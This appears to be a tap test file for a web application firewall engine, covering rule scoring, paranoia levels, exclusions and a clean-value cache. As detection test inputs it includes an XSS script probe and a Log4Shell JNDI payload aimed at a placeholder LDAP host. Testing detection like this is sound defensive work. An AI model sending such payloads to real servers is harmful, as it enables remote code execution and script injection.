import t from 'tap';
import { RuleSet, Scan } from '../../src/waf/engine.js';
import { Exclusions, parseTarget, S_BODY, S_COOKIE, S_HEADER, S_PATH, S_QUERY } from '../../src/waf/exclusions.js';
import { T_ANY_HEADER, T_URLENC, T_VALUE, CRITICAL } from '../../src/waf/rule.js';
import { ALL_RULES, RULES_BY_ID } from '../../src/waf/rules/index.js';
import { charMask } from '../../src/waf/chars.js';

void t.test('a rule scores once per request, however often it matches', async (t) => {
  const rules = new RuleSet(1);
  const scan = new Scan();
  rules.inspect(scan, T_VALUE | T_URLENC, '<script>', S_QUERY, 'a');
  rules.inspect(scan, T_VALUE | T_URLENC, '<script>', S_QUERY, 'b');
  t.same(scan.ids, [941110]);
  t.equal(scan.score, CRITICAL);
});

void t.test('paranoia selects rules', async (t) => {
  const value = '3 < 5 or 5 > 3';
  const at1 = new Scan();
  new RuleSet(1).inspect(at1, T_VALUE, value, S_QUERY, 'q');
  const at2 = new Scan();
  new RuleSet(2).inspect(at2, T_VALUE, value, S_QUERY, 'q');
  t.same(at1.ids, null);
  t.ok(at2.ids?.includes(942141), 'a paranoia-2 rule runs only at 2+');
  t.ok(new RuleSet(1).rules.every((r) => r.paranoia === 1));
  t.ok(new RuleSet(4).rules.length > new RuleSet(1).rules.length);
});

void t.test('exclusions: target syntax and matching', async (t) => {
  t.same(parseTarget('args:body'), { sources: S_QUERY | S_BODY, name: 'body' });
  t.same(parseTarget('headers:X-Custom'), { sources: S_HEADER, name: 'x-custom' });
  t.same(parseTarget('path'), { sources: S_PATH, name: null });
  t.same(parseTarget(undefined)?.name, null);
  for (const bad of ['path:x', 'body:x', 'args:', 'query', 'header', '']) t.equal(parseTarget(bad), null, bad);
  const ex = new Exclusions([{ rules: [941110], target: 'args:html' }, { rules: [942100], target: 'cookies' }]);
  t.ok(ex.excludes(941110, S_BODY, 'html'));
  t.ok(ex.excludes(941110, S_QUERY, 'html'));
  t.notOk(ex.excludes(941110, S_BODY, 'title'), 'another argument');
  t.notOk(ex.excludes(941120, S_BODY, 'html'), 'another rule');
  t.ok(ex.excludes(942100, S_COOKIE, 'any'));
  t.notOk(ex.excludes(942100, S_HEADER, 'any'));
  const scan = new Scan();
  scan.reset(ex);
  new RuleSet(1).inspect(scan, T_VALUE, '<script>x</script>', S_BODY, 'html');
  t.same(scan.ids, null, 'an excluded match neither scores nor is listed');
});

void t.test('rule table invariants', async (t) => {
  t.equal(RULES_BY_ID.size, ALL_RULES.length, 'ids are unique');
  for (const r of ALL_RULES) {
    t.ok(r.id >= 913000 && r.id < 945000, `${r.id} in the CRS-like ranges`);
    t.ok(r.msg.length > 5, `${r.id} documented`);
  }
});

void t.test('the character pre-filter: masks and the no-allocation clean path', async (t) => {
  t.not(charMask('abc') & charMask('xyz'), 0);
  t.equal(charMask('abc') & charMask('<'), 0);
  const rules = new RuleSet(1);
  const scan = new Scan();
  for (const v of ['12345', 'alice@example.com', '2024-05-01', 'ord_8f3a2c91', 'shipped']) rules.inspect(scan, T_VALUE | T_URLENC, v, S_QUERY, 'q');
  t.equal(scan.ids, null);
  t.equal(scan.score, 0);
});

void t.test('clean-value cache: long plain values (a bearer token) remembered, bounded in characters', async (t) => {
  const rules = new RuleSet(1);
  const token = 'Bearer ' + 'eyJhbGciOiJSUzI1NiJ9.'.padEnd(800, 'aB3_-');
  const scan = new Scan();
  rules.inspect(scan, T_ANY_HEADER, token, S_HEADER, 'authorization');
  t.equal(scan.ids, null);
  t.same(rules.cleanCache, { values: 1, chars: token.length }, 'the token is remembered after one pass');
  rules.inspect(scan, T_ANY_HEADER, token, S_HEADER, 'authorization');
  t.same(rules.cleanCache, { values: 1, chars: token.length }, 'and found again, not stored twice');
  // Short values are remembered too: a lookup is cheaper than a pass of the prefilter.
  rules.inspect(scan, T_ANY_HEADER, 'gzip, br', S_HEADER, 'accept-encoding');
  t.equal(rules.cleanCache.values, 2);
  // A long value that matches is never remembered, and still matches the second time.
  const attack = '${jndi:ldap://x.example/a}'.padEnd(600, ' x');
  for (let i = 0; i < 2; i++) {
    const s = new Scan();
    rules.inspect(s, T_ANY_HEADER, attack, S_HEADER, 'x-api-version');
    t.ok(s.ids?.includes(944151), `log4shell matched (${i + 1})`);
  }
  t.equal(rules.cleanCache.values, 2);
  // Many distinct 8 KB tokens: the characters held stay within 1 Mi (2 MiB of strings).
  for (let i = 0; i < 600; i++) rules.inspect(new Scan(), T_ANY_HEADER, `Bearer ${i}.`.padEnd(8192, 'k'), S_HEADER, 'authorization');
  t.ok(rules.cleanCache.chars <= 1024 * 1024, `${rules.cleanCache.chars} characters held`);
  t.ok(rules.cleanCache.values > 0 && rules.cleanCache.values <= 128);
});
